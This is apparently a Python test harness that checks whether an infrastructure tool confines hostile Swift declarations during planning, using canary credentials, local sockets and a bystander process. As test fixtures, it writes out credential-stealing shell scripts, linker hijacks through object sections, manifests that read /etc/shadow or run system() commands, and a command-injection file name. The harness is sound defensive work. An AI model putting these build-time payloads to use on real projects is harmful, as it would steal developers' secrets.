"""Declarations that try to hurt whoever plans them: what they are compiled from, and what they do when they run.

Each is planned with canary credentials in the environment, in `~/.aws`, in files and in the memory of the processes around
it, with a server, sockets and a process beside it. After each: no canary in what is printed or written, nothing outside changed, nobody reached, no process left,
and a clear error or an honest plan.

usage: hostile.py [--without-namespaces] [COUNT] [NAME …]
With a count, so many of them are tried; which follows from HOSTILE_SEED."""

import os
import pathlib
import random
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "EndToEnd"))
from common import Checks, copy_project, product  # noqa: E402

HERE = pathlib.Path(__file__).resolve().parent
CANARY = "canary-" + os.urandom(8).hex()
WITHOUT = "--without-namespaces" in sys.argv
COUNT = next((int(word) for word in sys.argv[1:] if word.isdigit()), None)
NAMES = [word for word in sys.argv[1:] if not word.startswith("--") and not word.isdigit()]
# What an attempt gets at where nothing confines it: so many of them are real.
REAL = [
    "read-file", "read-credentials", "read-state", "read-sources", "read-parent-environment", "list-folder", "write-file", "change-mode", "make-link",
    "connect-tcp", "send-udp", "connect-path", "send-path", "connect-abstract", "listen", "session", "shared-memory", "run-shell", "spawn-shell"]

# Reading another process's memory is the right of root and, where Yama does not limit it, of its owner.
YAMA = pathlib.Path("/proc/sys/kernel/yama/ptrace_scope")
if os.geteuid() == 0 or not YAMA.exists() or YAMA.read_text().strip() == "0":
    REAL.append("read-parent-memory")

MAIN = """import AWS
import Infra

let definitions = ["try", "place", "port", "parent"].map { Parameter($0, default: "") }

let evil = Environment("evil/dev", in: .euCentral1, account: "123456789012") {
  let _ = definitions.map(\\.value)
  Logs.LogGroup("logs", logGroupName: "evil")
}

%s
Environments.run { evil }
"""
TRYING = """var given: [String: String] = [:]
for argument in CommandLine.arguments {
  let pair = argument.split(separator: "=", maxSplits: 1).map(String.init)
  if pair.count == 2 { given[pair[0]] = pair[1] }
}
attempt(
  given["try"] ?? "", place: given["place"] ?? "", port: UInt16(given["port"] ?? "") ?? 0,
  parent: Int32(given["parent"] ?? "") ?? 0)
"""
SECTION = '@section("%s") @used private let marker: (%s) = (%s)\n'


def section(name, text):
    """A Swift source that puts bytes into a section of its object."""
    data = text.encode() + b"\0"
    return SECTION % (name, ", ".join(["UInt8"] * len(data)), ", ".join(map(str, data)))


class Place:
    """What is somebody's: a home with credentials, files, servers, and the project of the stranger in the middle of it."""

    def __init__(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="infra-hostile-"))
        (self.folder / ".aws").mkdir()
        (self.folder / ".aws" / "credentials").write_text(
            f"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {CANARY}-file\n")
        (self.folder / "canary.txt").write_text(f"{CANARY}-text\n")
        self.project = self.folder / "project"
        # Ours, and apart from what must not change.
        self.cache = pathlib.Path(tempfile.mkdtemp(prefix="infra-hostile-cache-"))
        copy_project(self.project)
        shutil.rmtree(self.project / "Environments")
        # The state of an environment that is none of the stranger's business.
        self.state = self.project / "state" / "prod" / "main.json"
        self.state.parent.mkdir(parents=True)
        self.state.write_text("what runs in production\n")
        self.reached = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.path = socket.socket(socket.AF_UNIX)
        self.path.bind(str(self.folder / "socket"))
        self.path.listen()
        self.datagrams = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.datagrams.bind(str(self.folder / "datagrams"))
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0infra-hostile-{self.port}")
        self.abstract.listen()
        for name, server in (("tcp", self.tcp), ("path", self.path), ("abstract", self.abstract)):
            threading.Thread(target=self.accept, args=(name, server), daemon=True).start()
        for name, server in (("udp", self.udp), ("datagrams", self.datagrams)):
            threading.Thread(target=self.receive, args=(name, server), daemon=True).start()
        self.bystander = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(100000)", CANARY + "-bystander"],
            env={"CANARY": CANARY + "-process"}, start_new_session=True)

    def accept(self, name, server):
        while True:
            try:
                server.accept()[0].close()
            except OSError:
                return
            self.reached.append(name)

    def receive(self, name, server):
        while True:
            try:
                server.recv(1)
            except OSError:
                return
            self.reached.append(name)

    def seen(self):
        """Everything of somebody's: names, modes, times and contents, the stranger's project aside."""
        found = {}
        for path in sorted(self.folder.rglob("*")):
            if self.project in path.parents or path == self.project:
                continue
            known = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(known.st_mode) else None
            found[str(path)] = (stat.filemode(known.st_mode), known.st_mtime_ns, content)
        found["state"] = self.state.read_bytes() if self.state.exists() else None
        return found

    def close(self):
        self.bystander.kill()
        self.bystander.wait()
        for server in (self.tcp, self.udp, self.path, self.datagrams, self.abstract):
            server.close()
        shutil.rmtree(self.folder, ignore_errors=True)
        shutil.rmtree(self.cache, ignore_errors=True)

    def write(self, files):
        """Puts the stranger's files in the project; a function makes what is no text."""
        environments = self.project / "Environments"
        shutil.rmtree(environments, ignore_errors=True)
        environments.mkdir()
        shutil.copy(HERE.parents[1] / "Package.swift", self.project / "Package.swift")
        for name, content in files.items():
            path = self.project / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if callable(content):
                content(path)
            else:
                path.write_text(content)
            if isinstance(content, str) and content.startswith("#!"):
                path.chmod(0o755)

    def plan(self, *words, timeout=300):
        command = [str(product()), "plan", "evil/dev", "--no-refresh", "--project", str(self.project),
                   "--require-confinement", *words]
        if WITHOUT:
            script = "; ".join(f"echo 0 > /proc/sys/user/max_{kind}_namespaces" for kind in ("user", "pid", "net", "ipc"))
            command = ["unshare", "-Ur", "sh", "-c", script + '; exec "$@"', "sh", *command]
        variables = {
            "PATH": os.environ["PATH"], "HOME": str(self.folder), "INFRA_CACHE": str(self.cache), "NO_COLOR": "1",
            "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "AWS_SECRET_ACCESS_KEY": CANARY + "-variable",
            "GITHUB_TOKEN": CANARY + "-token"}
        before = set(processes())
        process = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=variables, cwd=self.folder,
            errors="replace")
        try:
            said, _ = process.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            raise AssertionError(f"no end within {timeout} s")
        left = [line for pid, line in processes().items() if pid not in before and self.is_ours(line)]
        if left:
            raise AssertionError(f"left behind: {left}")
        return process.returncode, said

    def is_ours(self, line):
        return str(self.folder) in line


def processes():
    found = {}
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                if (entry / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
                    found[int(entry.name)] = line
            except OSError:
                pass
    return found


def declared(body, **files):
    return {"Environments/main.swift": MAIN % body, **files}


def linked(target):
    return lambda path: path.symlink_to(target)


MANIFEST = (HERE.parents[1] / "Package.swift").read_text()
# What a manifest does when it is evaluated: it reads, and says what it has seen.
SPY = """
import Glibc
func spy(_ path: String) {
  guard let file = fopen(path, "r") else { return }
  var line = [CChar](repeating: 0, count: 65536)
  while fgets(&line, 65536, file) != nil { print("GOT", String(cString: line)) }
}
"""


def sources(place):
    """Attempts by what is compiled: the files, and exit codes that are honest (0 a plan, 7 a refusal of the sources)."""
    folder, outside = place.folder, place.folder / "made-by-compile"
    script = f"#!/bin/sh\ncat {folder}/.aws/credentials /proc/*/environ\necho x > {outside}\nexec ld.lld \"$@\"\n"
    missing = "import NoSuchModule\n"
    cases = {
        "linker by section": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", "--ld-path=Environments/fmt"), "Environments/fmt": script}),
        "linker by section, absolute": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", f"--ld-path={place.project}/Environments/fmt"), "Environments/fmt": script}),
        "linker's output by section": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", f"-Wl,-Map={outside}")}),
        "linker's input by section": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", f"-Wl,--just-symbols={folder}/canary.txt")}),
        "linker's response file by section": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", f"@{folder}/canary.txt")}),
        "plugin of the linker by section": ({"Environments/Evil.swift": section(
            ".swift1_autolink_entries", f"-Wl,-plugin,{place.project}/Environments/fmt"), "Environments/fmt": script}),
        "dependent libraries": ({"Environments/Evil.swift": section(".deplibs", f"{folder}/canary.txt")}),
        "linker options": ({"Environments/Evil.swift": section(".linker-options", f"lib\0{folder}/canary.txt")}),
        "interpreter": ({"Environments/Evil.swift": section(".interp", f"{place.project}/Environments/fmt"),
                         "Environments/fmt": script}),
        "manifest that reads": ({"Environments/Evil.swift": missing, "Package.swift": MANIFEST + SPY +
                                 f'spy("{folder}/.aws/credentials")\nspy("/proc/{os.getpid()}/environ")\nspy("/etc/shadow")\n'}),
        "manifest that writes": ({"Environments/Evil.swift": missing, "Package.swift": MANIFEST +
                                  f'\nimport Glibc\n_ = fopen("{outside}", "w")\n_ = truncate("{folder}/canary.txt", 0)\n'}),
        "manifest that runs": ({"Environments/Evil.swift": missing, "Package.swift": MANIFEST +
                                f'\nimport Glibc\n_ = system("cat {folder}/.aws/credentials; echo x > {outside}")\n'}),
        "manifest that fetches": ({"Environments/Evil.swift": missing, "Package.swift": re.sub(
            r"dependencies: \[", f'dependencies: [.package(url: "http://127.0.0.1:{place.port}/evil.git", from: "1.0.0"),',
            MANIFEST, count=1)}),
        "manifest that stays": ({"Environments/Evil.swift": missing, "Package.swift": MANIFEST +
                                 f'\nimport Glibc\n_ = system("setsid sleep 1000 {folder} >/dev/null 2>&1 &")\n'}),
        "macro of nobody": ({"Environments/Evil.swift":
                             '@freestanding(expression) macro evil() -> Int = #externalMacro(module: "Evil", type: "Evil")\n'
                             "let number = #evil()\n"}),
        "linked source": ({"Environments/Keys.swift": linked(folder / ".aws" / "credentials")}),
        "linked source, relative": ({"Environments/Keys.swift": linked("../../canary.txt")}),
        "linked environment of a process": ({"Environments/Keys.swift": linked(f"/proc/{os.getpid()}/environ")}),
        "linked folder": ({"Environments/Keys": linked(folder)}),
        "linked device": ({"Environments/Zero.swift": linked("/dev/zero")}),
        "linked terminal": ({"Environments/Terminal.swift": linked("/dev/stdin")}),
        "pipe as source": ({"Environments/Pipe.swift": lambda path: os.mkfifo(path)}),
        "circle of links": ({"Environments/Loop": linked(".")}),
        "link to itself": ({"Environments/Self.swift": linked("Self.swift")}),
        "huge source": ({"Environments/Huge.swift": lambda path: os.truncate(path_made(path), 3 << 30)}),
        "long literal": ({"Environments/Long.swift": "let long = [" + "1," * 300_000 + "1]\n"}),
        "deep source": ({"Environments/Deep.swift": "let deep = " + "(" * 20_000 + "1" + ")" * 20_000 + "\n"}),
        "name that is an option": ({"Environments/-Xfrontend.swift": "let option = 1\n"}),
        "name with blanks and quotes": ({"Environments/a 'b' \"c\" $(touch x).swift": "let quoted = 1\n"}),
        "name with a line feed": ({"Environments/a\nb.swift": "let broken = 1\n"}),
        "control characters in an error": ({"Environments/Evil.swift":
                                            "let \u001b[2J\u001b[31mPWNED = 1\n::error::pwned\n"}),
        "module map": ({"Environments/module.modulemap": 'module Evil { header "evil.h" }\n',
                        "Environments/evil.h": f'#include "{folder}/canary.txt"\n',
                        "Environments/Evil.swift": "import Evil\n"}),
        "constructor": ({"Environments/Evil.swift":
                         "import Glibc\n@_cdecl(\"evil_start\") public func start() { _ = write(1, \"early\\n\", 6) }\n"
                         '@section(".init_array") @used private let begin: @convention(c) () -> Void = start\n'}),
    }
    return {name: (declared("", **files), [], (0, 7, 8)) for name, files in cases.items()}


READING = """import AWS
import Infra

let evil = Environment("evil/dev", in: .euCentral1, account: "123456789012") {
  Logs.LogGroup("logs", logGroupName: "evil", tags: ["text": %s])
}

Environments.run { evil }
"""


def reads(place):
    """Attempts by the files that a declaration asks for; what they hold would stand in the plan."""
    folder, keys = place.folder, place.folder / ".aws" / "credentials"
    file = 'File("asked").text'
    cases = {
        "linked file": (file, {"Environments/asked": linked(keys)}),
        "linked folder on the way": ('File("home/credentials").text', {"Environments/home": linked(folder / ".aws")}),
        "parent of the project": ('File("../../.aws/credentials").text', {}),
        "absolute path": (f'File("{keys}").text', {}),
        "state of another environment by a link": (file, {"Environments/asked": linked(place.state)}),
        "device": (file, {"Environments/asked": linked("/dev/zero")}),
        "pipe": (file, {"Environments/asked": lambda path: os.mkfifo(path)}),
        "huge file": (file, {"Environments/asked": lambda path: os.truncate(path_made(path), 3 << 30)}),
        "git's own": ('File(".git/config").text', {"Environments/.git/config": "[core]\n"}),
        "memory of a process": ('File("proc/environ").text', {"Environments/proc": linked(f"/proc/{os.getpid()}")}),
        "archive with a link": ('.init(expression: Archive("packed").expression)', {"Environments/packed/x": linked(keys)}),
        "deep YAML": ('YAMLFile("asked").text', {"Environments/asked": "- " * 1_000_000}),
        "deep JSON": ('JSONFile("asked").text', {"Environments/asked": "[" * 1_000_000}),
        "name with a line feed": ('File("a\\nb").text', {"Environments/a\nb": "x"}),
    }
    return {f"read: {name}": ({"Environments/main.swift": READING % text, **files}, [], (7, 8))
            for name, (text, files) in cases.items()}


def path_made(path):
    path.touch()
    return path


def runs(place):
    """Attempts of the program that declares."""
    names = re.findall(r'case "([a-z-]+)"', (HERE / "Attempts.swift").read_text())
    files = {"Environments/main.swift": MAIN % TRYING, "Environments/Attempts.swift": (HERE / "Attempts.swift").read_text()}
    defines = ["--define", f"place={place.folder}", "--define", f"port={place.port}", "--define", f"parent={os.getpid()}"]
    return {f"run: {name}": (files, ["--define", f"try={name}", *defines], (0, 7, 8)) for name in names}


def unconfined(place):
    """Runs the program as it is, without infra: what it can do then, it is kept from."""
    files, _, _ = next(iter(runs(place).values()))
    place.write(files)
    place.plan()
    program = max(place.cache.glob("*/build/environments-*/environments"), key=lambda path: path.stat().st_mtime)
    missing = []
    for name in REAL:
        words = [word for pair in (f"try={name}", f"place={place.folder}", f"port={place.port}", f"parent={os.getpid()}")
                 for word in ("--define", pair)]
        reading, writing = os.pipe()
        done = subprocess.run(
            ["bash", "-c", f'exec "$@" 3>&{writing}', "bash", str(program), "graph", "evil/dev", *words, "--root", str(place.project)],
            capture_output=True, text=True, errors="replace", pass_fds=[writing], start_new_session=name != "session",
            env={"CANARY": CANARY})
        os.close(reading)
        os.close(writing)
        if "GOT" not in done.stdout and CANARY not in done.stdout:
            missing.append(f"{name}: {done.stdout[-200:]}{done.stderr[-200:]}")
    (place.folder / "link").unlink(missing_ok=True)
    if missing:
        raise AssertionError("\n".join(missing))


checks = Checks("declarations that try to hurt" + (", without namespaces" if WITHOUT else ""))
place = Place()
try:
    place.write(declared(""))
    code, said = place.plan()
    if code != 0:
        sys.exit(f"an honest declaration cannot be planned: {said}")

    def tried(files, words, codes):
        place.write(files)
        before, place.reached[:] = place.seen(), []
        code, said = place.plan(*words)
        after = place.seen()
        changed = [name for name in before.keys() | after.keys() if before.get(name) != after.get(name)]
        if changed:
            raise AssertionError(f"changed: {changed}\n{said[-2000:]}")
        if CANARY in said or "GOT " in said:
            raise AssertionError(f"seen:\n{said[-3000:]}")
        if "\x1b" in said or re.search(r"^::", said, re.MULTILINE):
            raise AssertionError(f"raw text of a stranger:\n{said[-2000:]!r}")
        for path in [*place.project.rglob("*"), *place.cache.rglob("*")]:
            if path.is_file() and not path.is_symlink() and path.stat().st_size < 64 << 20 \
                    and CANARY.encode() in path.read_bytes():
                raise AssertionError(f"a canary is in {path}")
        if place.reached:
            raise AssertionError(f"reached: {place.reached}")
        if place.bystander.poll() is not None:
            raise AssertionError("the bystander is gone")
        if code not in codes:
            raise AssertionError(f"exit {code}\n{said[-3000:]}")
        if code != 0 and "error" not in said:
            raise AssertionError(f"exit {code}, and no error is said:\n{said[-2000:]}")

    checks.check("the attempts are real", lambda: unconfined(place))
    cases = {name: case for name, case in {**sources(place), **reads(place), **runs(place)}.items()
             if not NAMES or any(wanted in name for wanted in NAMES)}
    if COUNT:
        chosen = random.Random(os.environ.get("HOSTILE_SEED", "1")).sample(sorted(cases), min(COUNT, len(cases)))
        cases = {name: cases[name] for name in chosen}
    for name, case in cases.items():
        checks.check(name, lambda case=case: tried(*case))
finally:
    place.close()
checks.close()
